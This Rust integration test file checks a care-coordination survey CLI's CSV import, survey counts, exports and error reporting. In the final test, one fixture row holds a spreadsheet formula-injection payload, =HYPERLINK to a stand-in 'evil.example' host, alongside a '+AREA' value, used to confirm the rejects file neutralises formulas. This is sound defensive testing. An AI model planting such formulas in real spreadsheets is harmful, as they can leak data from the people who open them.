//! The survey over records imported as a city would import them, with `renkei import` and
//! `renkei survey`, compared number by number with the definitions (docs/survey.md):
//! tests/fixtures/survey holds twelve stays chosen for their edge cases, whose figures were
//! worked out by hand. (The survey of stays recorded through the API: api/survey.rs.)

use serde_json::{Value, json};

use crate::support::TestDatabase;
use crate::support::cli::{run, run_with};

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/survey");

async fn imported() -> TestDatabase {
    let database = TestDatabase::new();
    for table in ["facilities", "episodes", "contacts"] {
        let (code, stdout, stderr) = run(&database, &["import", table, &format!("{FIXTURES}/{table}.csv")]).await;
        assert_eq!(code, 0, "{table}: {stdout}{stderr}");
    }
    database
}

/// `renkei survey` of April 2025 under `rules`, with more arguments.
pub(super) async fn survey(database: &TestDatabase, rules: &str, args: &[&str]) -> Value {
    let mut all = vec!["survey", "--from", "2025-04-01", "--to", "2025-04-30"];
    all.extend_from_slice(args);
    let (code, stdout, stderr) = run_with(database, &[("HANDBOOK_RULES", rules)], &all).await;
    assert_eq!(code, 0, "{stderr}");
    serde_json::from_str(&stdout).unwrap()
}

fn result_schema(version: &str) -> jsonschema::Validator {
    let path = format!("{}/schemas/survey/{version}.json", env!("CARGO_MANIFEST_DIR"));
    let schema: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    jsonschema::draft202012::options().should_validate_formats(true).build(&schema).unwrap()
}

#[tokio::test]
async fn april_under_the_default_rules_counts_as_defined() {
    let database = imported().await;
    let result = survey(&database, "default", &[]).await;
    assert!(result_schema("v4").is_valid(&result), "the result follows schemas/survey/v4.json");
    assert_eq!(result["rules"]["id"], "default");
    assert_eq!(result["rules"]["discharge_notice_min_days"], 5);
    assert_eq!(
        result["admission"],
        json!({"cohort": 9, "contacted": 6, "rate": 6.0 / 9.0, "excluded": 1,
               "timing": {"same_day": 3, "day_2_3": 1, "later": 1, "unknown": 1, "none": 3},
               // E01 and E04 (undated) by FAX, E02 on a visit, E03 by mail, E06 in Renkei, E11 by
               // phone; E12's sheet came after its discharge.
               "method": {"system": 1, "visit": 1, "conference": 0, "video": 0, "phone": 1, "fax": 2, "mail": 1}})
    );
    assert_eq!(
        result["discharge"],
        json!({"cohort": 7, "contacted": 4, "rate": 4.0 / 7.0, "on_time": 2, "on_time_rate": 2.0 / 7.0,
               "died": 1, "excluded": 1, "in_hospital": 2,
               "lead_time": {"8+": 1, "5-7": 1, "2-4": 0, "1": 1, "0": 1, "after": 1, "unknown": 1, "none": 1},
               // E01's first was the call (the conference came later), E02 by FAX, E10's
               // conference, E11 by phone.
               "method": {"system": 0, "visit": 0, "conference": 1, "video": 0, "phone": 2, "fax": 1, "mail": 0}})
    );
}

#[tokio::test]
async fn the_paper_survey_window_follows_admissions_to_the_cut_off_and_drops_short_stays() {
    let database = imported().await;
    let result = survey(&database, "paper-survey", &[]).await;
    assert_eq!(result["period"]["cutoff"], "2025-05-31");
    assert_eq!(result["admission"]["cohort"], 8);
    assert_eq!(result["admission"]["excluded"], 2, "the explicit exclusion and the three-day stay");
    assert_eq!(
        result["admission"]["timing"],
        json!({"same_day": 2, "day_2_3": 1, "later": 1, "unknown": 1, "none": 3})
    );
    assert_eq!(result["discharge"]["cohort"], 6, "admitted in April, discharged by the cut-off");
    assert_eq!(result["discharge"]["in_hospital"], 1);
    assert_eq!(
        result["discharge"]["lead_time"],
        json!({"8+": 0, "5-7": 1, "2-4": 0, "1": 1, "0": 0, "after": 1, "unknown": 1, "none": 2})
    );
    assert_eq!((result["discharge"]["on_time"].clone(), result["discharge"]["died"].clone()), (json!(1), json!(1)));
}

#[tokio::test]
async fn groups_by_hospital_add_up_to_the_whole() {
    let database = imported().await;
    let result = survey(&database, "default", &["--group-by", "hospital"]).await;
    let groups = result["groups"].as_array().unwrap();
    let keys: Vec<&str> = groups.iter().map(|g| g["key"].as_str().unwrap()).collect();
    assert_eq!(keys, ["H01", "H02"]);
    assert_eq!(groups[0]["label"], "北見中央病院");
    assert_eq!(
        (groups[0]["admission"]["cohort"].clone(), groups[1]["admission"]["cohort"].clone()),
        (json!(6), json!(3))
    );
    assert_eq!(
        (groups[0]["discharge"]["cohort"].clone(), groups[1]["discharge"]["contacted"].clone()),
        (json!(4), json!(1))
    );
    assert_eq!(groups[1]["discharge"]["died"], 1);
    let areas = survey(&database, "default", &["--group-by", "area"]).await;
    let keys: Vec<&str> = areas["groups"].as_array().unwrap().iter().map(|g| g["key"].as_str().unwrap()).collect();
    assert_eq!(keys, ["中央", "南部"], "the care office's area");
    assert_eq!(areas["groups"][0]["admission"]["cohort"], 6, "K01 (中央): E01 E02 E05 E06 E11 E12");
    let levels = survey(&database, "default", &["--group-by", "care_level"]).await;
    let by_level: Vec<(&str, i64)> = levels["groups"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| (g["key"].as_str().unwrap(), g["admission"]["cohort"].as_i64().unwrap()))
        .collect();
    assert_eq!(by_level, [("要介護", 8), ("要支援", 1)]);
    let places = survey(&database, "default", &["--group-by", "hospital_in_city"]).await;
    assert!(result_schema("v4").is_valid(&places), "the breakdown by place, new in schemas/survey/v2.json");
    let places = places["groups"].as_array().unwrap();
    let labels: Vec<(&str, &str)> =
        places.iter().map(|g| (g["key"].as_str().unwrap(), g["label"].as_str().unwrap())).collect();
    assert_eq!(labels, [("市内", "市内の医療機関"), ("市外", "市外の医療機関")], "H01 is in the city, H02 is not");
    for (place, hospital) in places.iter().zip(groups) {
        assert_eq!((&place["admission"], &place["discharge"]), (&hospital["admission"], &hospital["discharge"]));
    }
    let months = survey(&database, "default", &["--group-by", "month"]).await;
    assert_eq!(months["groups"][0]["key"], "2025-04");
    assert_eq!(months["groups"][0]["label"], "2025年4月");
}

#[tokio::test]
async fn an_empty_period_has_null_rates() {
    let database = imported().await;
    let (code, stdout, _) = run(&database, &["survey", "--fiscal-year", "2030"]).await;
    assert_eq!(code, 0);
    let result: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(result["period"]["fiscal_year_label"], "令和12年度");
    assert_eq!(result["admission"]["cohort"], 0);
    assert_eq!(result["admission"]["rate"], Value::Null);
    assert_eq!(result["discharge"]["on_time_rate"], Value::Null);
}

#[tokio::test]
async fn csv_opens_in_excel_with_japanese_headers_in_utf8_or_shift_jis() {
    let database = imported().await;
    let args = ["survey", "--from", "2025-04-01", "--to", "2025-04-30", "--group-by", "hospital", "--format", "csv"];
    let output = crate::support::cli::command(&database).args(args).output().await.unwrap();
    assert!(output.stdout.starts_with(b"\xEF\xBB\xBF"), "UTF-8 with a byte order mark");
    let text = String::from_utf8(output.stdout[3..].to_vec()).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines[0].starts_with("区分コード,区分,入院_対象件数,入院_連絡あり,入院時情報提供率(%)"), "{}", lines[0]);
    assert!(lines[1].starts_with(",全体,9,6,66.7,3,1,1,1,3,1,7,4,57.1,2,28.6,1,1,0,1,1,1,1,1,1,1,2"), "{}", lines[1]);
    assert!(lines[2].starts_with("H01,北見中央病院,"));
    let sjis =
        crate::support::cli::command(&database).args(args).args(["--encoding", "shift_jis"]).output().await.unwrap();
    let (decoded, _, malformed) = encoding_rs::SHIFT_JIS.decode(&sjis.stdout);
    assert!(!malformed);
    assert!(!decoded.contains("&#"), "every header has a Shift_JIS code");
    assert_eq!(
        decoded.lines().next().map(|l| l.replace('～', "〜")),
        Some(lines[0].to_owned()),
        "〜 is written as Windows' ～"
    );
}

#[tokio::test]
async fn the_html_report_draws_its_own_charts() {
    let database = imported().await;
    let (code, html, _) = run(&database, &["survey", "--fiscal-year", "2025", "--format", "html"]).await;
    assert_eq!(code, 0);
    assert!(html.contains("令和7年度"));
    assert!(html.contains("<svg") && html.contains("北見中央病院"));
    assert!(
        !html.contains("http://") && !html.contains("https://")
            || html.contains("xmlns=\"http://www.w3.org/2000/svg\"")
    );
    assert!(!html.contains("<script"), "no scripts, no CDN");
}

#[tokio::test]
async fn a_file_with_bad_rows_is_refused_whole_and_skip_invalid_keeps_the_good_ones() {
    let database = imported().await;
    let dir = std::env::temp_dir().join(format!("renkei-import-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("more.csv");
    std::fs::write(
        &file,
        "episode_ref,client_ref,care_level,care_office,hospital,admitted_on,discharged_on,destination,excluded\n\
         E20,C20,要介護1,K01,H01,2025-04-10,2025-04-20,home,false\n\
         E21,C21,要介護9,K01,H01,2025-04-10,,,false\n\
         E22,C22,要介護1,K01,H99,2025-04-31,,,false\n\
         E23,C23,要介護1,K01,H01,2025-04-10,2025-04-01,home,false\n",
    )
    .unwrap();
    let (code, _, stderr) = run(&database, &["import", "episodes", file.to_str().unwrap()]).await;
    assert_ne!(code, 0);
    for expected in [
        "3 行目: care_level",
        "4 行目: admitted_on",
        "事業所コード H99 は登録されていません",
        "5 行目: discharged_on",
        "何も取り込みませんでした",
    ] {
        assert!(stderr.contains(expected), "{expected} missing from: {stderr}");
    }
    assert_eq!(survey(&database, "default", &[]).await["admission"]["cohort"], 9, "nothing was stored");

    let (code, stdout, _) = run(&database, &["import", "episodes", file.to_str().unwrap(), "--skip-invalid"]).await;
    assert_eq!(code, 0, "{stdout}");
    assert!(stdout.contains("追加 1") && stdout.contains("取り込まなかった行 3"), "{stdout}");
    let rejects = std::fs::read_to_string(dir.join("more.rejected.csv")).unwrap();
    assert_eq!(rejects.trim_start_matches('\u{feff}').lines().count(), 4, "header and three rejected rows: {rejects}");
    assert_eq!(survey(&database, "default", &[]).await["admission"]["cohort"], 10);
    std::fs::remove_dir_all(dir).unwrap();
}

/// Rows are written while later ones are still being checked: a bad row after a batch of good
/// ones (written by then) must still leave nothing stored, for stays and for contacts.
#[tokio::test]
async fn a_bad_last_row_after_thousands_of_written_ones_still_stores_nothing() {
    let database = imported().await;
    let dir = std::env::temp_dir().join(format!("renkei-late-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&dir).unwrap();
    // More than a batch: the first batch is written before the bad row is read.
    let good = renkei::import::BATCH + 2000;
    let refs = (0..good).map(|i| format!("L{i:05}"));
    let mut stays = String::from(
        "episode_ref,client_ref,care_level,care_office,hospital,admitted_on,discharged_on,destination,excluded\n",
    );
    let mut contacts = String::from("episode_ref,direction,kind,contacted_on,method\n");
    for reference in refs {
        stays.push_str(&format!("{reference},C{reference},要介護1,K01,H01,2025-04-10,2025-04-20,home,false\n"));
        contacts.push_str(&format!("{reference},cm_to_hospital,admission_info,2025-04-10,fax\n"));
    }
    stays.push_str("L99999,CL99999,要介護1,K01,H01,2025-04-10,2025-04-01,home,false\n");
    contacts.push_str("L00000,cm_to_hospital,admission_info,2025-04-32,fax\n");
    let (stays_file, contacts_file) = (dir.join("stays.csv"), dir.join("contacts.csv"));
    std::fs::write(&stays_file, stays).unwrap();
    std::fs::write(&contacts_file, contacts).unwrap();
    let first = survey(&database, "default", &[]).await;
    for (table, file, bad) in [("episodes", &stays_file, "discharged_on"), ("contacts", &contacts_file, "contacted_on")]
    {
        let before = survey(&database, "default", &[]).await;
        let (code, _, stderr) = run(&database, &["import", table, file.to_str().unwrap()]).await;
        assert_ne!(code, 0, "{table}");
        let last = format!("{} 行目: {bad}", good + 2);
        assert!(stderr.contains(&last) && stderr.contains("何も取り込みませんでした"), "{table}: {stderr}");
        assert_eq!(survey(&database, "default", &[]).await, before, "{table}: nothing was stored");
        let (code, stdout, _) = run(&database, &["import", table, file.to_str().unwrap(), "--skip-invalid"]).await;
        assert_eq!(code, 0, "{stdout}");
        // Had any row of the refused import stayed, it would now count as unchanged.
        assert!(
            stdout.contains(&format!("追加 {good}、更新 0、変更なし 0、取り込まなかった行 1")),
            "{table}: {stdout}"
        );
    }
    let after = survey(&database, "default", &[]).await;
    assert_eq!(
        after["admission"]["cohort"],
        first["admission"]["cohort"].as_i64().unwrap() + i64::try_from(good).unwrap()
    );
    assert_eq!(
        after["admission"]["timing"]["same_day"],
        first["admission"]["timing"]["same_day"].as_i64().unwrap() + i64::try_from(good).unwrap()
    );
    std::fs::remove_dir_all(dir).unwrap();
}

#[tokio::test]
async fn importing_the_same_files_again_changes_nothing_and_shift_jis_files_are_read() {
    let database = imported().await;
    let before = survey(&database, "default", &["--group-by", "hospital"]).await;
    for table in ["facilities", "episodes", "contacts"] {
        let (_, stdout, _) = run(&database, &["import", table, &format!("{FIXTURES}/{table}.csv")]).await;
        assert!(stdout.contains("追加 0、更新 0"), "{stdout}");
    }
    let dir = std::env::temp_dir().join(format!("renkei-sjis-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&dir).unwrap();
    let utf8 = std::fs::read_to_string(format!("{FIXTURES}/facilities.csv")).unwrap();
    let renamed = utf8.replace("北見中央病院", "北見中央病院（新）");
    std::fs::write(dir.join("sjis.csv"), encoding_rs::SHIFT_JIS.encode(&renamed).0).unwrap();
    let (code, stdout, _) = run(&database, &["import", "facilities", dir.join("sjis.csv").to_str().unwrap()]).await;
    assert_eq!(code, 0);
    assert!(stdout.contains("更新 1"), "{stdout}");
    let after = survey(&database, "default", &["--group-by", "hospital"]).await;
    assert_eq!(after["groups"][0]["label"], "北見中央病院（新）");
    assert_eq!(after["admission"], before["admission"]);
    assert_eq!(after["discharge"], before["discharge"]);
    std::fs::remove_dir_all(dir).unwrap();
}

#[tokio::test]
async fn a_contact_written_twice_on_paper_is_kept_twice_and_importing_it_again_adds_nothing() {
    let database = imported().await;
    let before = survey(&database, "default", &[]).await;
    let dir = std::env::temp_dir().join(format!("renkei-twice-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("more.csv");
    // E07 has no admission sheet yet: two identical undated ones, both kept. E02's notice is in
    // contacts.csv once; written twice here, the first is that one and the second is new.
    let more = "episode_ref,direction,kind,contacted_on,method\n\
                E07,cm_to_hospital,admission_info,,fax\n\
                E07,cm_to_hospital,admission_info,,fax\n\
                E02,hospital_to_cm,discharge_notice,2025-04-11,fax\n\
                E02,hospital_to_cm,discharge_notice,2025-04-11,fax\n";
    std::fs::write(&file, more).unwrap();
    let (code, stdout, stderr) = run(&database, &["import", "contacts", file.to_str().unwrap()]).await;
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("追加 3、更新 0"), "the first E02 notice is stored already: {stdout}");
    let once = survey(&database, "default", &[]).await;
    assert_eq!(
        once["admission"]["timing"]["unknown"].as_i64().unwrap(),
        before["admission"]["timing"]["unknown"].as_i64().unwrap() + 1,
        "E07 now has an undated admission sheet (counted once, however many copies): {once}"
    );
    assert_eq!(once["discharge"], before["discharge"], "a second copy of a notice changes no lead time");

    for _ in 0..2 {
        let (code, stdout, _) = run(&database, &["import", "contacts", file.to_str().unwrap()]).await;
        assert_eq!(code, 0);
        assert!(stdout.contains("追加 0、更新 0"), "{stdout}");
    }
    let (_, stdout, _) = run(&database, &["import", "contacts", &format!("{FIXTURES}/contacts.csv")]).await;
    assert!(stdout.contains("追加 0、更新 0"), "{stdout}");
    assert_eq!(survey(&database, "default", &[]).await, once);
    std::fs::remove_dir_all(dir).unwrap();
}

#[tokio::test]
async fn a_generated_data_set_imports_cleanly_and_gives_plausible_rates() {
    let database = TestDatabase::new();
    let dir = std::env::temp_dir().join(format!("renkei-generated-{}", uuid::Uuid::new_v4().simple()));
    let (code, stdout, _) =
        run(&database, &["generate", "--episodes", "2000", "--output", dir.to_str().unwrap()]).await;
    assert_eq!(code, 0, "{stdout}");
    for table in ["facilities", "episodes", "contacts"] {
        let (code, stdout, stderr) =
            run(&database, &["import", table, dir.join(format!("{table}.csv")).to_str().unwrap()]).await;
        assert_eq!(code, 0, "{table}: {stdout}{stderr}");
        assert!(stdout.contains("取り込まなかった行 0"), "{stdout}");
    }
    let (_, stdout, _) = run(&database, &["survey", "--from", "2016-04-01", "--to", "2026-03-31"]).await;
    let result: Value = serde_json::from_str(&stdout).unwrap();
    for side in ["admission", "discharge"] {
        let rate = result[side]["rate"].as_f64().unwrap();
        assert!((0.6..0.9).contains(&rate), "{side} rate {rate} is not like the published surveys");
    }
    assert!(result["discharge"]["died"].as_i64().unwrap() > 0);
    std::fs::remove_dir_all(dir).unwrap();
}

/// A file Excel saved (CRLF, Shift_JIS) whose bad rows are reported by the line a person sees
/// there; its rejects file opens with every cell as text; a name with a control character is
/// refused.
#[tokio::test]
async fn import_errors_name_the_line_people_see_and_the_rejects_file_runs_nothing() {
    let database = TestDatabase::new();
    let dir = std::env::temp_dir().join(format!("renkei-import-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&dir).unwrap();
    let rows = [
        "code,name,kind,area,in_city",
        "H01,連携病院,hospital,中央圏域,true",
        "H02,=HYPERLINK(\"http://evil.example/\"&A1),clinic,中央圏域,true",
        "\"K01\",\"さくら\n居宅\",care_office,,true",
        "K02,あおば居宅,care_office,+AREA,maybe",
        "K03,\"みどり\t居宅\",care_office,,true",
    ];
    for (name, end, shift_jis) in [("lf.csv", "\n", false), ("crlf.csv", "\r\n", false), ("excel.csv", "\r\n", true)] {
        let text = rows.join(end) + end;
        let bytes = if shift_jis { encoding_rs::SHIFT_JIS.encode(&text).0.into_owned() } else { text.into_bytes() };
        let file = dir.join(name);
        std::fs::write(&file, bytes).unwrap();
        let (code, _, stderr) = run(&database, &["import", "facilities", file.to_str().unwrap()]).await;
        assert_ne!(code, 0, "{name}");
        // The quoted line break makes the fourth row take lines 4 and 5.
        for expected in
            ["3 行目: kind", "4 行目: name", "6 行目: in_city", "7 行目: name: 改行やタブなどの制御文字は使えません"]
        {
            assert!(stderr.contains(expected), "{name}: {expected} missing from: {stderr}");
        }
        assert!(!stderr.contains("2 行目"), "{name}: {stderr}");
    }
    let file = dir.join("crlf.csv");
    let (code, stdout, _) = run(&database, &["import", "facilities", file.to_str().unwrap(), "--skip-invalid"]).await;
    assert_eq!(code, 0, "{stdout}");
    let rejects = std::fs::read(dir.join("crlf.rejected.csv")).unwrap();
    let text = String::from_utf8(rejects.strip_prefix(b"\xEF\xBB\xBF".as_slice()).unwrap().to_vec()).unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(true).flexible(true).from_reader(text.as_bytes());
    let cells: Vec<String> =
        reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
    assert!(cells.contains(&"'=HYPERLINK(\"http://evil.example/\"&A1)".to_owned()), "{cells:?}");
    assert!(cells.contains(&"'+AREA".to_owned()), "{cells:?}");
    assert!(!cells.iter().any(|c| c.starts_with(['=', '+', '-', '@'])), "{cells:?}");
    std::fs::remove_dir_all(dir).unwrap();
}
